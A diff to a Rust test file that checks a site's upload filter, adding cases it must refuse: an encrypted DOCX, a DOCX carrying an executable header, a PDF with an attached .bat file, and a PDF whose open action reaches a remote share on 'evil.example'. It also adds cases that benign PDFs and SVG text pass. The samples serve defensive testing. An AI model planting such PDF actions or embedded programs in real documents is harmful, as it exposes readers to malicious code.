@@ -6,8 +6,7 @@ use hyper::StatusCode;
 use image::ImageFormat;
 
 use super::files::{
-    SVG, archive, docx, docx_of, encoded, jpeg, jpeg_with_metadata, mp4, part, pdf, pdf_with, png_of, png_with_text,
-    spoiled_png,
+    SVG, archive, docx, docx_of, encoded, jpeg, jpeg_with_metadata, mp4, part, pdf, pdf_with, png_of, png_with_text, spoiled_png,
 };
 use super::{form, refused, taken};
 use crate::site::Site;
@@ -64,6 +63,8 @@ async fn what_is_refused_has_a_reason_and_leaves_nothing() {
     let cut = |content: Vec<u8>| content[..content.len() * 2 / 3].to_vec();
     let plain = archive(&[("readme.txt", b"hello")]);
     let locked = String::from_utf8(pdf()).unwrap().replace("/Size 4", "/Size 4/Encrypt 9 0 R").into_bytes();
+    let package: Vec<u8> = "EncryptedPackage".encode_utf16().flat_map(u16::to_le_bytes).collect();
+    let locked_docx = [b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", &[0; 600][..], &package, &[0; 100]].concat();
     let macros_of = |types: &str| docx_of(types.as_bytes());
     let enabled = r#"<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>"#;
     let little: Vec<u8> = "\u{feff}".encode_utf16().chain(enabled.encode_utf16()).flat_map(u16::to_le_bytes).collect();
@@ -101,6 +102,11 @@ async fn what_is_refused_has_a_reason_and_leaves_nothing() {
         ("with-page.mp4", with(mp4(), &part(b"html", &html)), Refusal::Foreign { format: Format::Mp4 }),
         ("within.svg", within.as_bytes().to_vec(), Refusal::Foreign { format: Format::Svg }),
         ("locked.pdf", locked, Refusal::Locked),
+        ("locked.docx", locked_docx, Refusal::Locked),
+        ("old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 an old document".to_vec(), Refusal::UnknownFormat),
+        ("with-program.docx", with(docx(), b"MZ\x90\0\x03"), Refusal::Foreign { format: Format::Docx }),
+        ("attached.pdf", pdf_with("/A<</EF<</F 9 0 R>>/UF(invoice.bat)>>"), Refusal::Active),
+        ("share.pdf", pdf_with("/OpenAction<</S/GoToR/F(\\\\\\\\evil.example\\\\a.pdf)>>"), Refusal::Active),
         ("launch.pdf", pdf_with("/A<</S/Launch >>"), Refusal::Active),
         ("escaped.pdf", pdf_with("/A<</S/L#61unch >>"), Refusal::Active),
         ("opened.pdf", pdf_with("/OpenAction<</S/JavaScript/JS(app.alert(1))>>"), Refusal::Active),
@@ -119,11 +125,32 @@ async fn what_is_refused_has_a_reason_and_leaves_nothing() {
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn a_pdf_that_opens_at_a_page_and_links_to_a_text_about_scripts_is_taken() {
+async fn a_pdf_that_only_speaks_of_what_others_do_is_taken() {
     let site = Site::start().await;
     let editor = site.staff(Role::Editor).await;
-    let harmless = pdf_with("/OpenAction<</S/GoTo/D[3 0 R/Fit]>>/A<</S/URI/URI(https://example.com/JavaScript/Launcher)>>");
-    taken(&site.upload(&editor, "a.pdf", &harmless).await);
+    for (name, harmless) in [
+        ("page.pdf", pdf_with("/OpenAction<</S/GoTo/D[3 0 R/Fit]>>/A<</S/URI/URI(https://example.com/JavaScript/Launcher)>>")),
+        ("launch.pdf", pdf_with("/A<</S/URI/URI(https://example.com/Launch)>>/T(Product/Launch plan 2027)")),
+        ("encrypt.pdf", pdf_with("/A<</S/URI/URI(https://example.com/docs/Encrypt)>>/T(Sign/Encrypt explained)")),
+        ("part.pdf", pdf_with("/A<</S/GoToR/F(part-2.pdf)>>/B<</EF<</F 9 0 R>>/UF(factur-x.xml)>>")),
+        ("marked.pdf", [b"\r\n\xef\xbb\xbf", &pdf()[..], b"\r\n\x1a"].concat()),
+    ] {
+        let answer = site.upload(&editor, name, &harmless).await;
+        assert_eq!(answer.status, StatusCode::OK, "{name}: {}", answer.body);
+        assert_eq!(taken(&answer).media.format, Format::Pdf, "{name}");
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_drawing_keeps_its_words_and_what_they_follow() {
+    let site = Site::start().await;
+    let editor = site.staff(Role::Editor).await;
+    let words = r#"<text xml:space="preserve"><tspan>Mag</tspan><tspan>ne</tspan>  tiq</text>"#;
+    let around = r##"<text><textPath href="#t">around</textPath></text>"##;
+    let drawing = format!(r#"<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0" id="t"/>{words}{around}</svg>"#);
+    let media = taken(&site.upload(&editor, "words.svg", drawing.as_bytes()).await).media;
+    let answer = site.get(&media.address).send().await;
+    assert!(answer.body.contains(words) && answer.body.contains(around), "{}", answer.body);
 }
 
 #[tokio::test(flavor = "multi_thread")]
